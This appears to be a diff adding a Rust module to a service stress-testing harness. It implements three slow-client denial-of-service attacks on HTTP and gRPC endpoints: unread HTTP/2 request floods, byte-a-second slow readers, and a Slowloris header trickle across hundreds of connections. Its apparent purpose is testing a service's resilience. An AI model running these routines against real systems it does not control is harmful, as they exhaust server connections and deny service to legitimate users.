@@ -1,0 +1,63 @@
+//! Peers that take their time.
+
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::time::sleep;
+
+use super::{Attacking, crowd};
+use crate::frames::{call, flag, frame, kind, message};
+use crate::peer::{acknowledge, connect, connect_h2, read_frame, request, source};
+use crate::target::Target;
+
+const QUESTION: &str = r#"{"domain":"d","descriptors":[{"entries":[{"key":"k","value":"slow"}]}]}"#;
+/// Requests that are sent before any answer is read.
+const AHEAD: usize = 100;
+
+/// Asks without leaving room for an answer, and answers every ping.
+pub(super) fn unread_answers(target: Target) -> Attacking {
+    crowd(200, move |number| async move {
+        let mut stream = connect_h2(source(number), target.grpc, 0).await?;
+        let mut out = Vec::new();
+        for id in (1..).step_by(2).take(AHEAD) {
+            frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &call(&[]));
+            frame(
+                &mut out,
+                kind::DATA,
+                flag::END_STREAM,
+                id,
+                &message(b"slow", 1),
+            );
+        }
+        stream.write_all(&out).await?;
+        loop {
+            let (head, payload) = read_frame(&mut stream).await?;
+            acknowledge(&mut stream, head, &payload).await?;
+        }
+    })
+}
+
+/// Asks a hundred times and reads a byte a second.
+pub(super) fn slow_readers(target: Target) -> Attacking {
+    crowd(500, move |number| async move {
+        let mut stream = connect(source(number), target.http).await?;
+        let question = request("POST", "/v1/check", QUESTION).repeat(AHEAD);
+        stream.write_all(&question).await?;
+        loop {
+            stream.read_u8().await?;
+            sleep(Duration::from_secs(1)).await;
+        }
+    })
+}
+
+/// Writes a byte of a head now and then (Slowloris).
+pub(super) fn slow_writers(target: Target) -> Attacking {
+    crowd(1500, move |number| async move {
+        let mut stream = connect(source(number % 8), target.http).await?;
+        stream.write_all(b"POST /v1/check HTTP/1.1\r\nx: ").await?;
+        loop {
+            stream.write_all(b"y").await?;
+            sleep(Duration::from_millis(500)).await;
+        }
+    })
+}
